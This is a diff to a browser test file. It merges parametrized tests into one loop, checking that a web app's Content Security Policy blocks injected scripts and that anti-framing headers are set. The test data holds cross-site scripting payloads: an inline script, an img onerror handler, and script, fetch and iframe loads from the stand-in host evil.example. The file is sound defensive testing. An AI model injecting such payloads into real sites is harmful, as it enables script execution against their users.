@@ -107,27 +107,25 @@ def test_scripts_pictures_workers_sound_and_sockets_of_the_client_work(server: S
     assert complaints == []
 
 
-@pytest.mark.parametrize(
-    "attack",
-    [
-        "document.body.append(Object.assign(document.createElement('script'), { text: 'window.hacked = true' }))",
-        'document.body.innerHTML = \'<img src="/x.png" onerror="window.hacked = true">\'',
-        "document.body.append(Object.assign(document.createElement('script'), { src: 'http://evil.example/x.js' }))",
-        "fetch('http://evil.example/').then(() => { window.hacked = true })",
-        "document.body.innerHTML = '<iframe src=\"http://evil.example/\"></iframe>'",
-    ],
+ATTACKS = (
+    "document.body.append(Object.assign(document.createElement('script'), { text: 'window.hacked = true' }))",
+    'document.body.innerHTML = \'<img src="/x.png" onerror="window.hacked = true">\'',
+    "document.body.append(Object.assign(document.createElement('script'), { src: 'http://evil.example/x.js' }))",
+    "fetch('http://evil.example/').then(() => { window.hacked = true })",
+    "document.body.innerHTML = '<iframe src=\"http://evil.example/\"></iframe>'",
 )
-def test_injected_scripts_are_blocked(server: Served, page: Page, attack: str) -> None:
-    page.goto(server.address)
-    finished(page)
-    page.evaluate("document.onsecuritypolicyviolation = () => { document.documentElement.dataset.stopped = 'yes' }")
-    page.evaluate(f"() => {{ {attack} }}")
-    page.wait_for_selector("html[data-stopped]", state="attached")
-    assert page.evaluate("window.hacked") is None
 
 
-def test_the_page_cannot_be_framed_by_another(server: Served, page: Page) -> None:
-    page.goto(server.address)
+# One test for all attacks: with several workers, each would start a browser for its share of them.
+def test_injected_scripts_are_blocked(server: Served, page: Page) -> None:
+    for attack in ATTACKS:
+        page.goto(server.address)
+        finished(page)
+        page.evaluate("document.onsecuritypolicyviolation = () => { document.documentElement.dataset.stopped = 'yes' }")
+        page.evaluate(f"() => {{ {attack} }}")
+        page.wait_for_selector("html[data-stopped]", state="attached")
+        assert page.evaluate("window.hacked") is None, attack
+    # The page cannot be framed by another.
     answer = page.request.get(server.address)
     assert "frame-ancestors 'none'" in answer.headers["content-security-policy"]
     assert answer.headers["x-frame-options"] == "DENY"
